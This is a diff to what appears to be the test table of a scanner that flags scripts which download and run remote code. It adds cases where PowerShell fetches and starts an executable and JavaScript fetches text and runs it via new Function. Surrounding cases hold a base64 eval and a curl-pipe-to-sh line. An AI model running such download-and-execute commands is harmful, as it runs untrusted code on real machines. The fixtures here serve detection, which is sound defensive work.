@@ -49,6 +49,18 @@ for (const [why, path, content, expected] of [
     "const x = 1;\neval(Buffer.from('YQ==', 'base64').toString());\n",
     ["script 2 eval(Buffer.from('YQ==', 'base64').toString());"],
   ],
+  [
+    'a script that starts what it downloaded before',
+    'demo/up.ps1',
+    'iwr https://x.invalid/a -OutFile a.exe\nStart-Process a.exe\n',
+    ['script 2 iwr https://x.invalid/a -OutFile a.exe … Start-Process a.exe'],
+  ],
+  [
+    'JavaScript that runs what it downloaded before',
+    'demo/index.js',
+    "const t = await (await fetch('https://x.invalid/a')).text();\nnew Function(t)();\n",
+    ['script 2 new Function(t)();'],
+  ],
   ['no plain download', 'demo/up.sh', 'curl -O https://x.invalid/data.csv\n', []],
   ['no comment', 'demo/up.sh', '# curl -s https://x.invalid/a | sh\n', []],
   ['no text that is no script', 'demo/README.md', 'curl -s https://x.invalid/a | sh\n', []],
